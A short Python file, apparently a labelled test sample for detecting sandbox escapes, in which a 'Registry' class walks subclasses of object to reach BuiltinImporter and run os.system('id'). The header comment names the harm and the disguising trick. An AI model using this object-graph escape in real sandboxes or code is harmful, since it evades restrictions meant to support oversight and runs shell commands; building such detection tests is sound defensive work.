# HARM: object-graph escape to os via BuiltinImporter -> os.system | TRICK: registry object stores root class in self.root (default Base) but instantiated with object
class Base:
    pass


class Registry:
    def __init__(self, root=Base):
        self.root = root

    def all(self):
        out = []
        todo = [self.root]
        while todo:
            k = todo.pop()
            for s in k.__subclasses__():
                out.append(s)
                todo.append(s)
        return out


for c in Registry(object).all():
    if c.__name__ == "BuiltinImporter":
        c.load_module("os").system("id")
